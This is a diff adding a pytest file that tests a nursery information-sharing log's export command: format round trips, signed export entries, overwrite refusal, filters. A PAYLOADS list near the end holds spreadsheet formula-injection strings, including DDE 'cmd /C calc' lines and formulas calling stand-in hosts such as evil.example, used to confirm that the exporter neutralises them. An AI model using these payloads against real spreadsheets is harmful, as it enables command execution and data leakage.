@@ -1,0 +1,373 @@
+"""`infoshare export`: every format round-trips, CSV is safe in Excel, and exports are logged."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+import os
+import shutil
+import stat
+from datetime import date
+from html.parser import HTMLParser
+
+import pytest
+from conftest import ALEX, PASSPHRASES, SAM, StaffedLog
+from review_support import SCRIPT, build_review_log, payload_for, signers
+
+from infoshare_cli import crypto
+from infoshare_cli.export import FORMULA_STARTS, csv_columns, neutralise, write_csv
+from infoshare_cli.log import compute_hash
+from infoshare_cli.questions import load_question_set
+from infoshare_cli.records import signature_ok
+
+PASS = PASSPHRASES[ALEX] + "\n"
+
+
+@pytest.fixture(scope="module")
+def _export_template(tmp_path_factory, _template_log):
+    path = tmp_path_factory.mktemp("export") / "log.sqlite3"
+    shutil.copy(_template_log, path)
+    return path, build_review_log(path).ids
+
+
+@pytest.fixture
+def review_log(_export_template, tmp_path):
+    src, ids = _export_template
+    path = tmp_path / "log.sqlite3"
+    shutil.copy(src, path)
+    path.chmod(0o600)
+    return StaffedLog(path), ids
+
+
+def export(cli, log, out, *args, input=PASS):
+    return cli("export", "--by", ALEX, "--out", out, *args, input=input, db=log.path)
+
+
+def logged(cli, log):
+    result = cli("log", "--json", "-n", "0", db=log.path)
+    assert result.exit_code == 0, result.output
+    return json.loads(result.stdout)
+
+
+def exports(cli, log):
+    return json.loads(cli("log", "--exports", "--json", db=log.path).stdout)
+
+
+# --- round trips -----------------------------------------------------------------------------
+
+
+def test_csv_round_trip_matches_the_log(cli, review_log, tmp_path):
+    log, _ = review_log
+    out = tmp_path / "out.csv"
+    result = export(cli, log, out)
+    assert result.exit_code == 0, result.output
+    raw = out.read_bytes()
+    assert not raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
+    expected = sorted(logged(cli, log), key=lambda r: r["id"])
+    assert [int(r["id"]) for r in rows] == [r["id"] for r in expected]
+    for row, review in zip(rows, expected, strict=True):
+        for key in ("recorded_at", "case_ref", "outcome", "status", "decided_by"):
+            assert row[key] == review[key]
+        assert row["cosigned_by"] == (review["cosigned_by"] or "")
+        assert row["basis"] == "; ".join(review["basis"])
+        for qid, answer in review["answers"].items():
+            value = answer["answer"]
+            if isinstance(value, dict):
+                for pid, sub in value.items():
+                    assert row[f"{qid}.{pid}"] == sub["answer"]
+                    assert row[f"{qid}.{pid}_reason"] == sub.get("reason", "")
+            elif qid != "recorded":
+                assert row[qid] == ("; ".join(value) if isinstance(value, list) else value)
+                assert row[f"{qid}_reason"] == answer.get("reason", "")
+        for pid, answer in (review["outcome_record"] or {}).items():
+            assert row[f"outcome_record.{pid}"] == answer["answer"]
+        for correction in review["corrections"]:
+            assert correction["right"] in row["corrections"]
+    # every field quoted
+    header_line = raw.decode("utf-8").splitlines()[0]
+    assert header_line.startswith('"id","recorded_at"')
+    assert "right_way.what" in rows[0] and "purpose_reason" in rows[0]
+
+
+@pytest.mark.parametrize("fmt", ["json", "jsonl"])
+def test_json_round_trip_and_checkable_without_the_database(cli, review_log, tmp_path, fmt):
+    log, _ = review_log
+    out = tmp_path / f"out.{fmt}"
+    with log.open() as ledger:
+        head = ledger.head()
+    result = export(cli, log, out, "--format", fmt)
+    assert result.exit_code == 0, result.output
+    text = out.read_text(encoding="utf-8")
+    if fmt == "json":
+        data = json.loads(text)
+    else:
+        lines = [json.loads(line) for line in text.splitlines()]
+        assert lines[0]["type"] == "header" and lines[-1]["type"] == "footer"
+        assert {line["type"] for line in lines[1:-1]} == {"decision"}
+        data = {k: v for k, v in lines[0].items() if k != "type"}
+        data["decisions"] = [{k: v for k, v in d.items() if k != "type"} for d in lines[1:-1]]
+        data["count"] = lines[-1]["count"]
+    assert data["format"] == "infoshare-export/1"
+    assert data["setting"] == "Little Acorns Nursery"
+    assert data["exported_by"] == ALEX
+    assert data["head"] == {"seq": head.seq, "hash": head.hash}
+    assert set(data["filters"]) == {"case", "outcome", "status", "since", "until", "by", "search"}
+    assert data["count"] == len(data["decisions"]) == 5
+    expected = sorted(logged(cli, log), key=lambda r: r["id"])
+    assert [{k: v for k, v in d.items() if k != "entries"} for d in data["decisions"]] == expected
+    keys = data["public_keys"]
+    assert all(k["from_seq"] <= head.seq for k in keys)
+    assert not any("sealed" in json.dumps(k) for k in keys)
+    # Every entry checks out with only what the export carries.
+    for decision in data["decisions"]:
+        kinds = [e["kind"] for e in decision["entries"]]
+        assert kinds[0] == "decision" and decision["entries"][0]["seq"] == decision["id"]
+        assert kinds.count("correction") == len(decision["corrections"])
+        for e in decision["entries"]:
+            assert e["hash"] == compute_hash(
+                e["seq"], e["kind"], e["recorded_at"], e["actor"], e["payload"], e["prev_hash"]
+            )
+            candidates = [
+                k for k in keys if k["staff_id"] == e["actor"] and k["from_seq"] <= e["seq"]
+            ]
+            key = max(candidates, key=lambda k: k["from_seq"])["public_key"]
+            assert crypto.verify_signature(key, bytes.fromhex(e["hash"]), e["signature"])
+
+
+def test_export_passes_verify_export(cli, review_log, tmp_path):
+    log, _ = review_log
+    out = tmp_path / "e.json"
+    assert export(cli, log, out, "--format", "json").exit_code == 0
+    result = cli("verify", "--export", out, db=log.path)
+    assert result.exit_code == 0, result.output
+
+
+class Collect(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.tags: list[str] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+
+def test_html_and_markdown_exports(cli, review_log, tmp_path):
+    log, ids = review_log
+    html_out, md_out = tmp_path / "e.html", tmp_path / "e.md"
+    assert export(cli, log, html_out, "--format", "html").exit_code == 0
+    assert export(cli, log, md_out, "--format", "md").exit_code == 0
+    parser = Collect()
+    parser.feed(html_out.read_text(encoding="utf-8"))
+    parser.close()
+    assert "script" not in parser.tags and parser.tags.count("article") == 5
+    text = "".join(parser.text)
+    assert SCRIPT in text
+    for i in ids.values():
+        assert f"Information sharing decision #{i}" in text
+    assert "5 decisions exported." in text
+    md = md_out.read_text(encoding="utf-8")
+    assert md.startswith("# Little Acorns Nursery: information sharing decisions")
+    assert md.count("## Information sharing decision #") == 5
+    assert "<script>" not in md and "signature verifies" in md
+
+
+# --- the export entry ------------------------------------------------------------------------
+
+
+def test_each_export_is_a_signed_entry_with_the_file_hash(cli, review_log, tmp_path, monkeypatch):
+    log, ids = review_log
+    monkeypatch.setenv("COLUMNS", "200")
+    out = tmp_path / "sub" / "c7.csv"
+    out.parent.mkdir()
+    result = export(cli, log, out, "--case", "C-7", "--excel")
+    assert result.exit_code == 0, result.output
+    data = out.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")
+    digest = hashlib.sha256(data).hexdigest()
+    assert digest in result.stdout
+    [entry] = exports(cli, log)
+    assert entry["exported_by"] == ALEX
+    assert entry["format"] == "csv" and entry["count"] == 1
+    assert entry["sha256"] == digest
+    assert entry["file"] == "c7.csv"  # no folders
+    assert entry["filters"]["case"] == "C-7"
+    with log.open() as ledger:
+        raw = ledger.get(entry["id"])
+        assert raw.kind == "export" and signature_ok(ledger, raw)
+        assert raw.payload["head"]["seq"] == entry["id"] - 1
+    if os.name != "nt":
+        assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    table = cli("log", "--exports", db=log.path)
+    assert "c7.csv" in table.stdout and "Alex Morgan" in table.stdout
+
+
+def test_refuses_to_overwrite_without_force(cli, review_log, tmp_path):
+    log, _ = review_log
+    out = tmp_path / "there.csv"
+    out.write_text("precious", encoding="utf-8")
+    count = log.count()
+    result = export(cli, log, out)
+    assert result.exit_code == 1
+    assert "already exists" in result.stderr and "--force" in result.stderr
+    assert out.read_text(encoding="utf-8") == "precious"
+    assert log.count() == count  # nothing logged, no passphrase asked
+    result = export(cli, log, out, "--force")
+    assert result.exit_code == 0, result.output
+    assert out.read_text(encoding="utf-8").startswith('"id"')
+    assert log.count() == count + 1
+    assert [p.name for p in tmp_path.iterdir() if "partial" in p.name] == []
+
+
+def test_default_file_name_has_the_setting_and_date(cli, review_log, tmp_path, monkeypatch):
+    log, _ = review_log
+    monkeypatch.chdir(tmp_path)
+    result = cli("export", "--by", ALEX, "--format", "jsonl", input=PASS, db=log.path)
+    assert result.exit_code == 0, result.output
+    name = f"little-acorns-nursery-decisions-{date.today().isoformat()}.jsonl"
+    assert (tmp_path / name).exists()
+    again = cli("export", "--by", ALEX, "--format", "jsonl", input=PASS, db=log.path)
+    assert again.exit_code == 1 and "already exists" in again.stderr
+
+
+def test_wrong_passphrase_or_no_name_exports_nothing(cli, review_log, tmp_path):
+    log, _ = review_log
+    out = tmp_path / "x.csv"
+    count = log.count()
+    result = export(cli, log, out, input="wrong\n" * 3)
+    assert result.exit_code == 1 and "wrong passphrases" in result.stderr
+    result = cli("export", "--out", out, input=PASS, db=log.path)
+    assert result.exit_code == 1 and "--by NAME" in result.stderr
+    result = export(cli, log, out, "--format", "pdf")
+    assert result.exit_code == 1 and "csv, json, jsonl, md, html" in result.stderr
+    result = export(cli, log, out, "--format", "json", "--excel")
+    assert result.exit_code == 1 and "--excel goes with --format csv" in result.stderr
+    result = export(cli, log, out, "--since", "someday")
+    assert result.exit_code == 1 and "not a date" in result.stderr
+    assert not out.exists() and list(tmp_path.iterdir()) == [log.path]
+    assert log.count() == count
+
+
+def test_filters_and_decided_by(cli, review_log, tmp_path):
+    log, ids = review_log
+    out = tmp_path / "e.json"
+    result = export(cli, log, out, "--format", "json", "--decided-by", SAM, "--status", "awaiting")
+    assert result.exit_code == 0, result.output
+    data = json.loads(out.read_text(encoding="utf-8"))
+    assert [d["id"] for d in data["decisions"]] == [ids["awaiting"]]
+    assert data["filters"]["by"] == SAM and data["filters"]["status"] == "awaiting co-signature"
+
+
+def test_empty_log_exports_an_empty_file(cli, staffed_log, tmp_path):
+    out = tmp_path / "none.json"
+    result = cli("export", "--by", ALEX, "--out", out, "--format", "json", input=PASS,
+                 db=staffed_log.path)  # fmt: skip
+    assert result.exit_code == 0, result.output
+    assert "Exported 0 decisions" in result.stdout
+    data = json.loads(out.read_text(encoding="utf-8"))
+    assert data["decisions"] == [] and data["count"] == 0
+
+
+# --- formula injection -----------------------------------------------------------------------
+
+PAYLOADS = [
+    "=1+1",
+    '=HYPERLINK("http://evil.example","click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "+cmd|' /C notepad'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
+    '=WEBSERVICE("http://x.example")',
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    " =1+1",
+    "=0x41",
+    "-",
+    "@",
+]
+
+
+def test_neutralise_covers_every_formula_start():
+    for start in FORMULA_STARTS:
+        assert neutralise(start + "x") == "'" + start + "x"
+    assert neutralise("plain") == "plain" and neutralise("") == ""
+    assert neutralise("a=b") == "a=b"
+
+
+def test_formula_payloads_are_neutralised_through_the_csv_writer_and_reader():
+    """Straight through the writer: payloads with a leading tab or line break included."""
+    qset = load_question_set()
+    columns = csv_columns(qset)
+    reviews = []
+    for n, text in enumerate(PAYLOADS, 1):
+        reviews.append(
+            {
+                "id": n,
+                "recorded_at": "2026-11-26T10:00:00.000000Z",
+                "case_ref": text,
+                "outcome": "do_not_share",
+                "status": "awaiting co-signature",
+                "decided_by": text,
+                "cosigned_by": None,
+                "question_set": {},
+                "answers": {"purpose": {"answer": "no", "reason": text}},
+                "basis": [],
+                "cosignatures": [],
+                "corrections": [],
+            }
+        )
+
+    class Sink(io.StringIO):
+        pass
+
+    sink = Sink()
+    assert write_csv(sink, reviews, qset) == len(PAYLOADS)
+    rows = list(csv.reader(io.StringIO(sink.getvalue(), newline="")))
+    assert rows[0] == columns
+    for row, text in zip(rows[1:], PAYLOADS, strict=True):
+        for column in ("case_ref", "decided_by", "purpose_reason"):
+            assert row[columns.index(column)] == "'" + text
+
+
+def test_formula_payloads_typed_into_the_log_are_neutralised_in_the_export(
+    cli, staffed_log, tmp_path
+):
+    """Through the whole tool: signed decisions whose reasons are payloads, exported as CSV."""
+    with staffed_log.open() as ledger:
+        sam = signers(ledger)[SAM]
+        base = payload_for("do_not_share", "C-1")
+        for text in PAYLOADS:
+            body = json.loads(json.dumps(base))
+            body["answers"]["purpose"]["reason"] = text
+            body["case_ref"] = "C-1"
+            ledger.append("decision", sam.staff_id, body, sam.sign)
+        cosign = {"decision": 7, "decision_hash": "x", "verdict": "disagree", "comment": "=1+2"}
+        ledger.append("cosign", signers(ledger)[ALEX].staff_id, cosign, signers(ledger)[ALEX].sign)
+    out = tmp_path / "inj.csv"
+    result = cli("export", "--by", ALEX, "--out", out, input=PASS, db=staffed_log.path)
+    assert result.exit_code == 0, result.output
+    with open(out, encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f))
+    header, body = rows[0], rows[1:]
+    reasons = [row[header.index("purpose_reason")] for row in body]
+    assert reasons == ["'" + text for text in PAYLOADS]
+    assert body[0][header.index("cosign_comment")] == "'=1+2"
+    for row in body:
+        for cell in row:
+            assert not cell or cell.lstrip(" ")[0] not in FORMULA_STARTS
